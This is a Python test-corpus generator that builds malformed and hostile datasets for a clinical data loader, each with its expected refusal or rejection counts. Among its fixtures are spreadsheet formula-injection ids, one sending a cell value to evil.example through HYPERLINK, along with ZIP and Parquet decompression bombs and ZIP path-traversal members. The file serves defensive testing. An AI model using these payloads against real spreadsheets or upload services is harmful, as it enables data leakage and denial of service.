"""The hostile-input corpus: broken, odd and malicious datasets with the outcome each must get (issue #5).

Every case is a dataset a clinic could really send (a Latin-1 export, a spreadsheet's trailing
commas, Excel date serials, a ZIP with ``../`` paths) or an attacker could craft (binary garbage, a
decompression bomb, spreadsheet formulas as patient ids). Each case says, by hand and from SPEC §2,
what must happen: the whole dataset is **refused** with a one-line message (exit status 2 or 3), or
it is **loaded** and every file reconciles (rows read = accepted + rejected) with the stated
rejection reasons and, where they matter, the physical line numbers. The expectations are written
here, not computed by the loader, so the tests in ``tests/test_hostile_input.py`` can catch it out.

Running this script (re)writes ``corpus/<case>/`` (``sessions.csv`` + ``diary.csv`` and any further
files, or one ``upload.zip`` for the archive cases, which the dashboard's upload path opens through
``analytics.ingest.archive``) and ``expected.json``. Cases marked ``generated`` are too big to commit
(multi-megabyte fields, a decompression bomb): the tests build them into a temporary folder with
``build(name)``. Output is byte-for-byte reproducible (ZIPs are stored with a fixed time).

    .venv/bin/python tests/hostile/make_corpus.py
"""

from __future__ import annotations

import functools
import io
import json
import random
import shutil
import struct
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

HERE = Path(__file__).resolve().parent
CORPUS = HERE / "corpus"
EXPECTED = HERE / "expected.json"
ZIP_TIME = (2024, 1, 1, 0, 0, 0)

SESSIONS_HEADER = "patient_id,session_date,total_units,n_injections,injector_id,protocol"
DIARY_HEADER = "patient_id,date,headache_hours,migraine,severity,acute_medication"
# The valid core every case starts from: 3 sessions, 15 diary days (P001 10, P002 5).
SESSIONS = [
    "P001,2024-03-01,155,31,INJ1,PREEMPT",
    "P002,2024-03-04,155,31,INJ2,PREEMPT",
    "P001,2024-05-24,155,31,INJ1,PREEMPT",
]
DIARY = [f"P001,2024-02-{day},{day % 7},{str(day % 2 == 0).lower()},{day % 4},false" for day in range(20, 30)] + [
    f"P002,2024-03-0{day},{day + 2},true,2,true" for day in range(1, 6)
]
INVALID_ID = "invalid patient_id"
INVALID_DATE = "invalid date"
HOURS = "headache_hours out of range"
MISSING = "missing required value"
FIELDS = "wrong number of fields"


def lines(header: str, rows: list[str], eol: str = "\n") -> str:
    return eol.join([header, *rows]) + eol


def utf8(text: str) -> bytes:
    return text.encode("utf-8")


def base(**files: bytes) -> dict[str, bytes]:
    """The valid core with some files replaced or added."""
    core = {"sessions.csv": utf8(lines(SESSIONS_HEADER, SESSIONS)), "diary.csv": utf8(lines(DIARY_HEADER, DIARY))}
    return core | files


def stored_zip(members: list[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=ZIP_TIME)
            info.compress_type = compression
            archive.writestr(info, data)
    return buffer.getvalue()


def parquet(table: pa.Table) -> bytes:
    buffer = io.BytesIO()
    pq.write_table(table, buffer)
    return buffer.getvalue()


# --- expectations ------------------------------------------------------------------------------


def refused(exit_code: int, *contains: str) -> dict[str, object]:
    """The whole dataset is refused with this exit status; the one-line message holds each text."""
    return {"outcome": "refused", "exit_code": exit_code, "message_contains": list(contains)}


def counts(
    read: int,
    accepted: int,
    reasons: tuple[str, ...] = (),
    rejected_lines: list[int] | None = None,
    ignored: tuple[str, ...] = (),
) -> dict[str, object]:
    """One file's expected counts: rows read and accepted (rejected = read - accepted), the set of
    rejection reasons, optionally the rejected physical lines and the columns ignored."""
    entry: dict[str, object] = {
        "read": read,
        "accepted": accepted,
        "rejected": read - accepted,
        "reasons": sorted(set(reasons)),
    }
    if rejected_lines is not None:
        entry["rejected_lines"] = rejected_lines
    if ignored:
        entry["columns_ignored"] = list(ignored)
    return entry


CORE = {"sessions.csv": counts(3, 3), "diary.csv": counts(15, 15)}


def loaded(**files: dict[str, object]) -> dict[str, object]:
    """Loaded, with these files' counts (keywords: file names with _ for the dot, e.g. diary_csv); a core
    file not named (and not replaced by a Parquet file of its stem) is expected untouched."""
    named = {key.replace("_csv", ".csv").replace("_parquet", ".parquet"): entry for key, entry in files.items()}
    stems = {name.split(".")[0] for name in named}
    core = {name: entry for name, entry in CORE.items() if name.split(".")[0] not in stems}
    return {"outcome": "loaded", "files": core | named}


@dataclass(frozen=True)
class Case:
    name: str
    about: str
    files: Callable[[], dict[str, bytes]]
    expected: dict[str, object]
    source: str = "folder"  # "zip": one upload.zip, opened by analytics.ingest.archive as the dashboard does
    generated: bool = False  # too big to commit: built at test time


# --- the cases: builders ------------------------------------------------------------------------


def _sessions(rows: list[str], header: str = SESSIONS_HEADER, eol: str = "\n") -> dict[str, bytes]:
    return base(**{"sessions.csv": utf8(lines(header, rows, eol))})


def _diary(rows: list[str], header: str = DIARY_HEADER, eol: str = "\n") -> dict[str, bytes]:
    return base(**{"diary.csv": utf8(lines(header, rows, eol))})


def _every_file(change: Callable[[bytes], bytes]) -> dict[str, bytes]:
    return {name: change(data) for name, data in base().items()}


def _encoded(
    encoding: str,
    which: tuple[str, ...] = ("sessions.csv", "diary.csv"),
    bom: bytes = b"",
) -> dict[str, bytes]:
    files = base()
    for name in which:
        files[name] = bom + files[name].decode("utf-8").encode(encoding)
    return files


def _latin1() -> dict[str, bytes]:
    text = lines(SESSIONS_HEADER, [*SESSIONS, "P003,2024-03-05,155,31,Dr Müller,PREEMPT"])
    return base(**{"sessions.csv": text.encode("latin-1")})


def _windows1252() -> dict[str, bytes]:
    text = lines(SESSIONS_HEADER, [*SESSIONS, "P003,2024-03-05,155,31,Dr O’Brien,PREEMPT"])  # ’ is 0x92 in cp1252
    return base(**{"sessions.csv": text.encode("cp1252")})


def _quoted_newline() -> dict[str, bytes]:
    text = (
        SESSIONS_HEADER
        + "\n"
        + 'P001,2024-03-01,155,31,"INJ1\nlocum",PREEMPT\n'  # lines 2-3
        + 'P002,2024-03-04,155,31,"INJ2, senior",PREEMPT\n'  # line 4
        + 'P001,2024-05-24,155,31,INJ1,"PREEMPT\n\nfollowing the pain"\n'  # lines 5-7 (a blank line inside quotes)
        + "P003,2024/03/05,155,31,INJ1,PREEMPT\n"  # line 8: invalid date
        + 'P004,2024-03-06,"1,55",31,INJ1,PREEMPT\n'  # line 9: a decimal comma is not a number
    )
    return base(**{"sessions.csv": utf8(text)})


def _mixed_line_endings() -> dict[str, bytes]:
    # Physical lines: 1 header, 2 row, 3 row, 4 invalid date, 5 blank (a lone CR), 6 hours 25, 7 row.
    text = (
        DIARY_HEADER
        + "\r\n"
        + DIARY[0]
        + "\n"
        + DIARY[1]
        + "\r"
        + "P001,2024-02-31,3,,,\r\n"
        + "\r"
        + "P002,2024-03-06,25,,,\n"
        + DIARY[2]
        + "\r\n"
    )
    return base(**{"diary.csv": utf8(text)})


def _crlf_blank_lines() -> dict[str, bytes]:
    # Physical lines: 1 header, 2 row, 3 blank, 4 hours -1, 5 blank, 6 blank, 7 invalid id, 8 row.
    return _diary([DIARY[0], "", "P001,2024-02-21,-1,,,", "", "", "P 001,2024-02-22,3,,,", DIARY[3]], eol="\r\n")


def _double_cr() -> dict[str, bytes]:
    # Python's csv writer in text mode on Windows ends lines with CR CR LF: each CR ends a line, so the
    # header is line 1, line 2 is blank, and the 16th row (invalid hours) is line 33.
    return _diary([*DIARY, "P002,2024-03-06,99,,,"], eol="\r\r\n")


def enormous_field() -> dict[str, bytes]:
    """A 2 MB free-text cell (kept), a 2 MB patient_id and a 2 MB number (both rejected)."""
    big = "x" * 2_000_000
    sessions = lines(SESSIONS_HEADER, [*SESSIONS, f'P003,2024-03-05,155,31,"{big}",PREEMPT'])
    diary = lines(DIARY_HEADER, [*DIARY, f"{big},2024-02-21,3,,,", f"P001,2024-02-21,{'9' * 2_000_000},,,"])
    return base(**{"sessions.csv": utf8(sessions), "diary.csv": utf8(diary)})


def enormous_field_over_limit() -> dict[str, bytes]:
    """An 11 MB cell: more than the loader's 10-million-character field limit."""
    return _sessions([*SESSIONS, f"P003,2024-03-05,155,31,{'x' * 11_000_000},"])


def _xlsx_renamed() -> dict[str, bytes]:
    """What a workbook saved as .xlsx and renamed to .csv holds: a deflated ZIP of XML parts."""
    parts = [
        ("[Content_Types].xml", b'<?xml version="1.0"?><Types>' + b"<Default/>" * 40 + b"</Types>"),
        (
            "xl/worksheets/sheet1.xml",
            b"<worksheet><sheetData>" + b"<row><c t='n'><v>45352</v></c></row>" * 60 + b"</sheetData></worksheet>",
        ),
    ]
    return base(**{"sessions.csv": stored_zip(parts, zipfile.ZIP_DEFLATED)})


HTML_PAGE = (
    b"<!DOCTYPE html>\n<html><head><title>Error</title></head>\n"
    b"<body>Session expired, please log in again.</body></html>\n"
)


def _excel_serial_dates() -> dict[str, bytes]:
    # 45352 is 2024-03-01 in Excel's 1900 date system; day/month order and a time are not ISO dates either.
    files = _sessions([SESSIONS[0].replace("2024-03-01", "45352"), *SESSIONS[1:]])
    serials = [f"P002,{45351 + day},3,,," for day in range(1, 6)]  # replaces P002's five days (lines 12-16)
    diary = [*DIARY[:10], *serials, "P002,06/03/2024,3,,,", "P002,2024-03-07 00:00:00,3,,,"]
    return files | {"diary.csv": utf8(lines(DIARY_HEADER, diary))}


def _leap_dates() -> dict[str, bytes]:
    dates = [
        "2024-02-29",
        "2000-02-29",
        " 2024-02-27 ",  # valid (whitespace around a value is ignored)
        "2023-02-29",
        "1900-02-29",
        "2024-02-30",
        "2024-13-01",
        "2024-1-5",
        "2024-02-28T00:00",
        "２０２４-02-26",
    ]  # full-width digits are not ISO 8601
    files = _sessions([*SESSIONS, "P003,2024-02-29,155,31,INJ1,PREEMPT", "P003,2023-02-29,155,31,INJ1,PREEMPT"])
    return files | {"diary.csv": utf8(lines(DIARY_HEADER, [*DIARY, *(f"P002,{d},4,,," for d in dates)]))}


def _odd_numbers() -> dict[str, bytes]:
    rejected = ["1e309", "nan", "NaN", "inf", "-inf", "Infinity", "0x10", "1_0", "24.0000001", "-1", "٣", "１"]
    accepted = ["-0", "+5", "1e1", "24", "0", ".5", "5."]
    rows = [f"P001,2024-01-{i + 1:02d},{value},,," for i, value in enumerate(rejected + accepted)]
    return _diary([*DIARY, *rows, "P001,2024-01-31,,,,"])  # lines 17-28 rejected, 29-35 kept, 36 missing


def _unicode_ids() -> dict[str, bytes]:
    rejected = ["Pé01", "P\u200b001", "Ｐ001", "Р001", "P001🙂", "P001\u202e", "A" * 65]  # lines 17-23
    accepted = ["\u00a0P003\u00a0", "P_003-x", "A" * 64]  # a no-break space around a value is whitespace
    return _diary([*DIARY, *(f"{pid},2024-01-{i + 1:02d},3,,," for i, pid in enumerate(rejected + accepted))])


FORMULA_IDS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+SUM(1+1)", "-2+3", "@cmd", "\t=1+1"]


def _formula_ids() -> dict[str, bytes]:
    def quoted(value: str) -> str:
        return '"' + value.replace('"', '""') + '"'

    sessions = [
        *SESSIONS,
        *(f"{quoted(pid)},2024-03-05,155,31,INJ1,PREEMPT" for pid in FORMULA_IDS),
        "-P005,2024-03-05,155,31,INJ1,PREEMPT",
    ]  # valid under the pattern, so accepted
    return _sessions(sessions) | {"diary.csv": utf8(lines(DIARY_HEADER, [*DIARY, '"=1+1",2024-02-20,3,,,']))}


def _semicolon_decimal_comma() -> dict[str, bytes]:
    rows = [row.replace(",", ";") for row in DIARY] + ["P002;2024-03-06;3,5;;;", "P002;2024-03-07;0,5;;;"]
    return _diary(rows, header=DIARY_HEADER.replace(",", ";"))


def _with_diary_parquet(table: pa.Table) -> dict[str, bytes]:
    files = base()
    del files["diary.csv"]
    return files | {"diary.parquet": parquet(table)}


def _parquet_hostile() -> dict[str, bytes]:
    return _with_diary_parquet(
        pa.table(
            {  # rows (lines 2-7): kept, 30 hours, a list for a boolean, 9999, no id, kept
                "patient_id": pa.array(["P001", "P001", "P002", "P002", None, "P002"]),
                "date": pa.array(["2024-02-20", "2024-02-21", "2024-03-01", "9999-12-31", "2024-03-02", "2024-03-02"]),
                "headache_hours": pa.array([3.0, 30.0, 5.0, 5.0, 5.0, 4.0]),
                "acute_medication": pa.array([None, None, [True], None, None, None], pa.list_(pa.bool_())),
                " headache hours ": pa.array([1, 2, 3, 4, 5, 6]),  # not a contract column: ignored
            }
        )
    )


def parquet_row_bomb() -> dict[str, bytes]:
    """20 million identical diary rows in one row group: dictionary and run-length encoding make them 190 KB."""
    return {"sessions.csv": base()["sessions.csv"], "diary.parquet": _row_bomb_parquet()}


@functools.cache  # a few seconds to write, and the tests ask twice (loader, command line)
def _row_bomb_parquet() -> bytes:
    index = pa.repeat(pa.scalar(0, pa.int32()), 20_000_000)
    table = pa.table(
        {
            name: pa.DictionaryArray.from_arrays(index, pa.array([value]))
            for name, value in (("patient_id", "P001"), ("date", "2024-02-20"), ("headache_hours", 3.0))
        }
    )
    buffer = io.BytesIO()
    pq.write_table(table, buffer, row_group_size=20_000_000)
    return buffer.getvalue()


def _parquet_repeated_column() -> dict[str, bytes]:
    return _with_diary_parquet(
        pa.table({"patient_id": ["P001"], "date": ["2024-02-20"], " date": ["2024-02-21"], "headache_hours": [3.0]})
    )


def _zip_members(folder: str = "") -> list[tuple[str, bytes]]:
    return [(folder + name, data) for name, data in base().items()]


def _upload(members: list[tuple[str, bytes]]) -> Callable[[], dict[str, bytes]]:
    return lambda: {"upload.zip": stored_zip(members)}


def _declared_oversize() -> dict[str, bytes]:
    """A small archive whose central directory claims that diary.csv unpacks to 600 MB."""
    data = bytearray(stored_zip(_zip_members()))
    at = data.find(b"PK\x01\x02", data.find(b"PK\x01\x02") + 4)  # the second central entry: diary.csv
    assert data[at + 46 : at + 55] == b"diary.csv"
    struct.pack_into("<I", data, at + 24, 600 * 1024 * 1024)  # its uncompressed size
    return {"upload.zip": bytes(data)}


def zip_bomb() -> dict[str, bytes]:
    """20 MB of blank lines deflate about 1000-fold: far beyond what real data files do."""
    members = [*_zip_members()[:1], ("diary.csv", b"\n" * (20 * 2**20))]
    return {"upload.zip": stored_zip(members, zipfile.ZIP_DEFLATED)}


# --- the cases ---------------------------------------------------------------------------------

CASES: list[Case] = [
    # Encodings.
    Case(
        "latin1",
        "sessions.csv saved as Latin-1 (an umlaut): refused with a hint to save as UTF-8",
        _latin1,
        refused(2, "sessions.csv", "not UTF-8 text", "Latin-1", "save it as UTF-8"),
    ),
    Case(
        "windows1252",
        "sessions.csv saved as Windows-1252 (a curly apostrophe)",
        _windows1252,
        refused(2, "sessions.csv", "not UTF-8 text", "Windows-1252"),
    ),
    Case(
        "utf8_bom",
        "both files UTF-8 with a byte-order mark (Excel's 'CSV UTF-8')",
        lambda: _encoded("utf-8", bom=b"\xef\xbb\xbf"),
        loaded(),
    ),
    Case(
        "double_bom",
        "a byte-order mark twice (a tool added one to a file that had one)",
        lambda: _encoded("utf-8", ("diary.csv",), bom=b"\xef\xbb\xbf\xef\xbb\xbf"),
        loaded(),
    ),
    Case(
        "utf16",
        "both files UTF-16 little-endian with a BOM (Excel's 'Unicode text')",
        lambda: _encoded("utf-16"),
        loaded(),
    ),
    Case(
        "utf16_be",
        "sessions.csv UTF-16 big-endian with a BOM",
        lambda: _encoded("utf-16-be", ("sessions.csv",), b"\xfe\xff"),
        loaded(),
    ),
    Case(
        "utf16_no_bom",
        "diary.csv UTF-16 without a BOM: it cannot be told from binary data",
        lambda: _encoded("utf-16-le", ("diary.csv",)),
        refused(2, "diary.csv", "cannot be parsed as CSV"),
    ),
    Case(
        "utf32",
        "diary.csv UTF-32 with a BOM",
        lambda: _encoded("utf-32", ("diary.csv",)),
        refused(2, "diary.csv", "cannot be parsed as CSV"),
    ),
    # Delimiters, quoting and line ends.
    Case(
        "semicolon",
        "both files semicolon-delimited (European spreadsheets)",
        lambda: _every_file(lambda data: data.replace(b",", b";")),
        loaded(),
    ),
    Case(
        "semicolon_decimal_comma",
        "semicolons and decimal commas: 3,5 is not a number in [0, 24]",
        _semicolon_decimal_comma,
        loaded(diary_csv=counts(17, 15, (HOURS,), [17, 18])),
    ),
    Case("tab", "both files tab-delimited", lambda: _every_file(lambda data: data.replace(b",", b"\t")), loaded()),
    Case(
        "quoted_newline",
        "quoted newlines, a quoted blank line and a quoted comma; rejections keep their physical line numbers",
        _quoted_newline,
        loaded(sessions_csv=counts(5, 3, (INVALID_DATE, "implausible total_units"), [8, 9])),
    ),
    Case(
        "unclosed_quote",
        "a quote that is never closed",
        lambda: _diary([*DIARY, 'P001,"2024-02-21,3,,,']),
        refused(2, "diary.csv", "cannot be parsed as CSV near line 17", "unexpected end of data"),
    ),
    Case(
        "stray_quotes",
        "quotes inside unquoted fields are data, and fail their column's rule",
        lambda: _diary([*DIARY, 'P001,2024-01-01,3",,,', 'P0"01,2024-01-02,3,,,']),
        loaded(diary_csv=counts(17, 15, (HOURS, INVALID_ID), [17, 18])),
    ),
    Case(
        "crlf_blank_lines",
        "Windows line ends and blank lines: blank lines are not rows but count as lines",
        _crlf_blank_lines,
        loaded(diary_csv=counts(4, 2, (HOURS, INVALID_ID), [4, 7])),
    ),
    Case(
        "cr_only",
        "classic Mac line ends (CR only)",
        lambda: _every_file(lambda data: data.replace(b"\n", b"\r")),
        loaded(),
    ),
    Case(
        "double_cr",
        "every line ends CR CR LF (a CSV written in text mode on Windows)",
        _double_cr,
        loaded(diary_csv=counts(16, 15, (HOURS,), [33])),
    ),
    Case(
        "mixed_line_endings",
        "CRLF, LF and lone CR in one file; a lone CR ends a line",
        _mixed_line_endings,
        loaded(diary_csv=counts(5, 3, (INVALID_DATE, HOURS), [4, 6])),
    ),
    Case(
        "trailing_delimiters",
        "a spreadsheet's trailing commas: unnamed columns are ignored",
        lambda: _sessions([row + ",," for row in SESSIONS[:2]] + [SESSIONS[2] + ",note,"], SESSIONS_HEADER + ",,"),
        loaded(sessions_csv=counts(3, 3, ignored=("unnamed_7", "unnamed_8"))),
    ),
    Case(
        "ragged_rows",
        "a short row and a long row: rejected, the rest kept",
        lambda: _sessions([*SESSIONS, "P003,2024-03-05", "P004,2024-03-05,155,31,INJ1,PREEMPT,x,y"]),
        loaded(sessions_csv=counts(5, 3, (FIELDS,), [5, 6])),
    ),
    Case(
        "long_delimiter_line",
        "one line of 200,000 commas",
        lambda: _diary([*DIARY, "," * 200_000]),
        loaded(diary_csv=counts(16, 15, (FIELDS,), [17])),
    ),
    Case(
        "long_delimiter_header",
        "a header of 5,000 commas: refused at once, not parsed for minutes",
        lambda: _diary(DIARY, header=DIARY_HEADER + "," * 5_000),
        refused(2, "diary.csv", "5,006 columns", "more than 1,000"),
    ),
    Case(
        "whitespace_cells",
        "cells of spaces are missing; spaces around values are ignored",
        lambda: _diary([*DIARY, "   ,   ,   ,,,", " P002 , 2024-03-06 , 4 , true , 2 , false "]),
        loaded(diary_csv=counts(17, 16, (MISSING,), [17])),
    ),
    # Enormous, binary and not-CSV files.
    Case(
        "enormous_field",
        "2 MB cells: free text is kept, a 2 MB patient_id or number is rejected",
        enormous_field,
        loaded(sessions_csv=counts(4, 4), diary_csv=counts(17, 15, (INVALID_ID, HOURS), [17, 18])),
        generated=True,
    ),
    Case(
        "enormous_field_over_limit",
        "an 11 MB cell, over the 10-million-character field limit",
        enormous_field_over_limit,
        refused(2, "sessions.csv", "field larger than field limit"),
        generated=True,
    ),
    Case(
        "binary_garbage",
        "diary.csv is 4 KB of random bytes",
        lambda: base(**{"diary.csv": random.Random(20241124).randbytes(4096)}),
        refused(2, "diary.csv", "cannot be parsed as CSV"),
    ),
    Case(
        "xlsx_renamed",
        "an Excel workbook renamed to sessions.csv",
        _xlsx_renamed,
        refused(2, "sessions.csv", "cannot be parsed as CSV"),
    ),
    Case(
        "nul_bytes",
        "a NUL byte in a diary row",
        lambda: _diary([*DIARY, "P001,2024-02-21,\x003,,,"]),
        refused(2, "diary.csv", "NUL bytes"),
    ),
    Case(
        "html_error_page",
        "sessions.csv is a web portal's 'session expired' page",
        lambda: base(**{"sessions.csv": HTML_PAGE}),
        refused(2, "sessions.csv", "required column 'patient_id'"),
    ),
    # Empty files.
    Case("empty_file", "diary.csv has no bytes", lambda: base(**{"diary.csv": b""}), refused(2, "diary.csv", "empty")),
    Case(
        "blank_lines_only",
        "diary.csv holds blank and whitespace lines only",
        lambda: base(**{"diary.csv": b"\n\r\n   \n\t\n"}),
        refused(2, "diary.csv", "empty"),
    ),
    Case("header_only", "diary.csv has its header and no rows", lambda: _diary([]), loaded(diary_csv=counts(0, 0))),
    # Headers.
    Case(
        "duplicate_header",
        "the column date twice",
        lambda: _diary([row + ",2024-01-01" for row in DIARY], header=DIARY_HEADER + ",date"),
        refused(2, "diary.csv", "column 'date' appears more than once"),
    ),
    Case(
        "duplicate_header_spaces",
        "the column date twice, once with spaces around it (one would hide the other)",
        lambda: _diary(
            [row.replace(",2024", ",2024-01-01,2024", 1) for row in DIARY],
            header=DIARY_HEADER.replace(",date,", ", date ,date,"),
        ),
        refused(2, "diary.csv", "column 'date' appears more than once"),
    ),
    Case(
        "header_wrong_case",
        "column names in capitals are not the contract's names",
        lambda: _diary(DIARY, header=DIARY_HEADER.upper()),
        refused(2, "diary.csv", "required column 'patient_id' is missing"),
    ),
    Case(
        "missing_required_column",
        "diary.csv without headache_hours",
        lambda: _diary(["P001,2024-02-20"], header="patient_id,date"),
        refused(2, "diary.csv", "required column 'headache_hours' is missing"),
    ),
    Case(
        "direct_identifier",
        "patients.csv with a date-of-birth column",
        lambda: base(**{"patients.csv": b"patient_id,sex,Date of Birth\nP001,F,1970-01-01\nP002,M,1980-02-02\n"}),
        refused(3, "patients.csv", "column 'Date of Birth' looks like a direct identifier", "deidentify"),
    ),
    # Values.
    Case(
        "excel_serial_dates",
        "dates as Excel serial numbers, in day/month order and with a time",
        _excel_serial_dates,
        loaded(
            sessions_csv=counts(3, 2, (INVALID_DATE,), [2]),
            diary_csv=counts(17, 10, (INVALID_DATE,), [12, 13, 14, 15, 16, 17, 18]),
        ),
    ),
    Case(
        "leap_dates",
        "2024-02-29 and 2000-02-29 are dates; 2023-02-29, 1900-02-29 and other shapes are not",
        _leap_dates,
        loaded(
            sessions_csv=counts(5, 4, (INVALID_DATE,), [6]),
            diary_csv=counts(25, 18, (INVALID_DATE,), [20, 21, 22, 23, 24, 25, 26]),
        ),
    ),
    Case(
        "odd_numbers",
        "1e309, nan, inf, hex, digit separators and other scripts' digits are not hours; -0, +5, 1e1 and .5 are",
        _odd_numbers,
        loaded(diary_csv=counts(35, 22, (HOURS, MISSING), [*range(17, 29), 36])),
    ),
    Case(
        "unicode_patient_ids",
        "accents, a zero-width space, full-width and Cyrillic letters, an emoji, a "
        "right-to-left override and a 65-character id are not pseudonyms",
        _unicode_ids,
        loaded(diary_csv=counts(25, 18, (INVALID_ID,), list(range(17, 24)))),
    ),
    Case(
        "formula_patient_ids",
        "spreadsheet formulas as patient ids: rejected, and quoted back formula-safe",
        _formula_ids,
        loaded(
            sessions_csv=counts(9, 4, (INVALID_ID,), [5, 6, 7, 8, 9]), diary_csv=counts(16, 15, (INVALID_ID,), [17])
        ),
    ),
    # Parquet.
    Case(
        "parquet_garbage",
        "diary.parquet is not Parquet",
        lambda: {"sessions.csv": base()["sessions.csv"], "diary.parquet": b"PAR1" + b"\x00" * 64},
        refused(2, "diary.parquet", "cannot be read as Parquet"),
    ),
    Case(
        "parquet_hostile",
        "Parquet with a list where a boolean belongs, a missing id and year 9999 (a valid ISO "
        "date that pandas cannot hold: rejected as an invalid date, not a crash)",
        _parquet_hostile,
        loaded(
            diary_parquet=counts(
                6, 2, (HOURS, "invalid boolean", INVALID_DATE, MISSING), [3, 4, 5, 6], ignored=("headache hours",)
            )
        ),
    ),
    Case(
        "parquet_repeated_column",
        "Parquet with 'date' and ' date'",
        _parquet_repeated_column,
        refused(2, "diary.parquet", "column 'date' appears more than once"),
    ),
    Case(
        "parquet_row_bomb",
        "20 million identical diary rows in 190 KB of Parquet: refused from its metadata, "
        "before it is read (it took 8.8 GB and 75 s)",
        parquet_row_bomb,
        refused(2, "diary.parquet", "60,000,000 values", "decompression bomb"),
        generated=True,
    ),
    # ZIP uploads (the dashboard's upload path).
    Case(
        "zip_ok",
        "the core in one folder of a ZIP, with macOS's extra files",
        _upload(
            [
                *_zip_members("export/"),
                ("__MACOSX/export/._diary.csv", b"\x00\x05\x16\x07"),
                ("export/.DS_Store", b"\0"),
            ]
        ),
        loaded(),
        source="zip",
    ),
    Case(
        "zip_traversal",
        "a member named ../../sessions.csv",
        _upload([("../../sessions.csv", base()["sessions.csv"]), ("diary.csv", base()["diary.csv"])]),
        refused(2, "upload.zip", "points outside the archive"),
        source="zip",
    ),
    Case(
        "zip_absolute_path",
        "a member with an absolute path",
        _upload([("/tmp/sessions.csv", base()["sessions.csv"]), ("diary.csv", base()["diary.csv"])]),
        refused(2, "upload.zip", "points outside the archive"),
        source="zip",
    ),
    Case(
        "zip_nested",
        "a ZIP inside the ZIP",
        _upload([*_zip_members(), ("more.zip", stored_zip(_zip_members()))]),
        refused(2, "upload.zip", "contains another archive"),
        source="zip",
    ),
    Case(
        "zip_too_many_members",
        "25 members",
        _upload([*_zip_members(), *((f"part_{i:02d}.csv", b"a\n1\n") for i in range(23))]),
        refused(2, "upload.zip", "holds 25 files, more than 20"),
        source="zip",
    ),
    Case(
        "zip_declared_oversize",
        "the archive declares that diary.csv unpacks to 600 MB",
        _declared_oversize,
        refused(2, "upload.zip", "unpacks to more than 500 MB"),
        source="zip",
    ),
    Case(
        "zip_bomb",
        "a decompression bomb",
        zip_bomb,
        refused(2, "upload.zip", "decompression bomb"),
        source="zip",
        generated=True,
    ),
    Case(
        "zip_not_a_zip",
        "text named upload.zip",
        lambda: {"upload.zip": base()["sessions.csv"]},
        refused(2, "upload.zip", "cannot be opened as a ZIP archive"),
        source="zip",
    ),
]
BY_NAME = {case.name: case for case in CASES}


def build(name: str) -> dict[str, bytes]:
    """The files of one case, by name."""
    return BY_NAME[name].files()


def expected() -> dict[str, dict[str, object]]:
    return {
        case.name: {"about": case.about, "source": case.source, "generated": case.generated, **case.expected}
        for case in CASES
    }


def write(corpus: Path = CORPUS, expected_path: Path = EXPECTED) -> int:
    """Write every committed case and expected.json; returns the bytes written to the corpus."""
    if corpus.exists():
        shutil.rmtree(corpus)
    total = 0
    for case in CASES:
        if case.generated:
            continue
        folder = corpus / case.name
        folder.mkdir(parents=True)
        for name, data in case.files().items():
            (folder / name).write_bytes(data)
            total += len(data)
    expected_path.write_text(json.dumps(expected(), indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
    return total


if __name__ == "__main__":
    written = write()
    print(
        f"{len(CASES)} cases ({sum(c.generated for c in CASES)} generated at test time), {written:,} bytes in {CORPUS}",
        file=sys.stderr,
    )
